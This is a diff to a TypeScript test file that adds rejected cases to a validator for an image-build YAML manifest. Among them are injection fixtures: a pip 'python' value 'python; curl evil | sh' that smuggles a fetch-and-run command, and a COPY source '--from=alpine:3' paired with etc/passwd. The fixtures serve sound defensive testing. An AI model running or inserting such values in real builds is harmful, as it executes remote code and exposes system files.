@@ -142,10 +142,40 @@ const invalidManifests: InvalidManifest[] = [
     problems: ['images.yaml:8:15: a run command may not end with a backslash: write each command as its own list item'],
   },
   {
+    mistake: 'a run command holds a comment that would hide the commands after it',
+    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    layers:', '      - run:', '          commands:', '            - "make build # the build"', '            - rm -rf /tmp/cache'),
+    problems: ['images.yaml:8:15: a run command may not hold a # comment: it would hide the commands joined after it; put comments in the YAML'],
+  },
+  {
+    mistake: 'a copy source that would be read as a COPY flag',
+    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    layers:', '      - copy: {src: ["--from=alpine:3", etc/passwd], dest: /x}'),
+    problems: ['images.yaml:6:22: copy source `--from=alpine:3` must be a path relative to the build context, without ..'],
+  },
+  {
+    mistake: 'a python command for pip that is not a command',
+    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    layers:', '      - pip: {python: "python; curl evil | sh", packages: [requests]}'),
+    problems: ['images.yaml:6:23: python `python; curl evil | sh` must be a command name or path (letters, digits and . _ / + -)'],
+  },
+  {
+    mistake: 'a stage env name with a space',
+    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    stages:', '      - name: build', '        base: node:20', '        env: {"A B": "1"}'),
+    problems: ['images.yaml:8:15: `A B` is not a valid environment variable name (letters, digits and _, not starting with a digit)'],
+  },
+  {
+    mistake: 'two stage names that would share a build argument',
+    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    stages:', '      - {name: a-b, base: node:20}', '      - {name: a.b, base: alpine:3}'),
+    problems: ['images.yaml:7:16: stage names `a-b` and `a.b` would share the build argument A_B_BASE_IMAGE; rename one'],
+  },
+  {
+    mistake: 'a variable in a key',
+    manifest: yaml('version: 1', 'variables:', '  SUFFIX: ""', 'images:', '  app${SUFFIX}:', '    base: python:3.9-slim'),
+    problems: ['images.yaml:5:3: `app${SUFFIX}`: variables cannot be used in keys; names must be known as written'],
+  },
+  {
     mistake: 'a run command starts a heredoc',
     manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    layers:', '      - run:', '          commands:', '            - cat <<EOF > /etc/motd'),
     problems: [
-      'images.yaml:8:15: heredocs (<<WORD) are not supported in run commands: they would swallow the lines after them; put the text in a file and copy it',
+      'images.yaml:8:15: a run command may not open a heredoc (<<WORD): it would swallow the lines after it; put the text in a file and copy it',
     ],
   },
   {
@@ -273,5 +303,11 @@ test('a shape problem and an undefined variable are reported together', () => {
   expect(problemsOf(yaml('version: 1', 'images:', '  a:', '    base: python:${PYTON}-slim', '    envv: {A: "1"}'))).toEqual([
     'images.yaml:4:11: undefined variable `PYTON`: declare it under `variables:`',
     'images.yaml:5:5: unknown field `envv` in image `a` (did you mean `env`?); expected one of: description, base, from, extends, layers, args, env, labels, workdir, user, entrypoint, cmd, expose, volumes, context, stages',
+  ]);
+});
+
+test('a problem inside a stage names the stage', () => {
+  expect(problemsOf(yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    stages:', '      - name: build', '        base: node:20', '        layers:', '          - apt: {}'))).toEqual([
+    'images.yaml:9:18: apt layer of stage 1 of image `a` is missing `packages`',
   ]);
 });
